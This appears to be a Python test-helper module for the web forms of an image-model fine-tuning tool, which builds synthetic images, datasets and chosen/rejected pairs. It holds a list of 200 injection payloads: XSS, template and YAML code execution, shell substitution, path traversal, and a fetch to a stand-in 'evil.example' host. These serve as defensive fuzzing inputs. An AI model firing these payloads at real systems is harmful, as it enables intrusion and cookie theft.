"""What the tests of the forms share: pictures to learn from, and recipes in other people's handwriting."""

from __future__ import annotations

import json

import numpy as np
from PIL import Image

from tuner.shipped import shipped
from webui.forms.basics import Pictures

RECIPES = tuple(shipped())
SEVERAL = ("dreambooth_lora", "pivotal_sd35", "full_sd15", "dpo", "hypernetwork")
"""Recipes that have every family's members between them."""


def text_of(name):
    return shipped()[name].read_text("utf-8")


def draw_pictures(folder, count=4, side=64):
    """Pictures of different shapes, none like another."""
    folder.mkdir(parents=True, exist_ok=True)
    for number in range(count):
        noise = np.random.default_rng(number).integers(0, 255, (side, side - 16 * (number % 2), 3), dtype="uint8")
        Image.fromarray(noise).save(folder / f"{number}.png")
    return folder


def draw_dataset(folder, *, captioned=0):
    """A folder that serves every method: pictures, and pairs of them inside for those that take pairs."""
    draw_pictures(folder)
    for number in range(captioned):
        (folder / f"{number}.txt").write_text(f"a thing number {number}", "utf-8")
    return Pictures(folder, 4, captioned)


def draw_pairs(folder):
    for name in ("chosen", "rejected"):
        draw_pictures(folder / name, 2)
    for number in range(2):  # the same names and shapes, other pixels
        with Image.open(folder / "chosen" / f"{number}.png") as picture:
            flipped = picture.transpose(Image.Transpose.FLIP_LEFT_RIGHT)
        flipped.save(folder / "rejected" / f"{number}.png")
    return Pictures(folder, 2, 0)


PAYLOADS = [
    body.replace("X", mark)
    for mark in ("alert(1)", "fetch('//evil.example')", "1;import os", "process.exit()", "document.cookie")
    for body in (
        "<script>X</script>",
        "<img src=x onerror=X>",
        "<svg/onload=X>",
        '"><script>X</script>',
        "'; X; '",
        "{{X}}",
        "{% X %}",
        "${X}",
        "javascript:X",
        "!!python/object/apply:os.system ['X']",
        "&a X",
        "*a X",
        "<<: X",
        "X: [1, 2]",
        "{X: 1}",
        "[X]",
        "# X",
        "X #",
        "- X",
        "? X",
        "| X",
        "> X",
        "%YAML X",
        "@X",
        "`X`",
        "\\X\\1\\g<0>",
        "%(X)s",
        "../../X",
        "$(X)",
        ";X&&ls|cat",
        "null X",
        "{}X",
        '"X',
        "'X",
        'X"""',
        "--X",
        "<a href='javascript:X'>",
        "</textarea>X",
        "\u202eX",
        "\uff1cscript\uff1eX",
    )
]
"""200 texts that mean something to a page, a shell, a template or YAML."""


def as_json(tree):
    return json.dumps(tree, ensure_ascii=False)
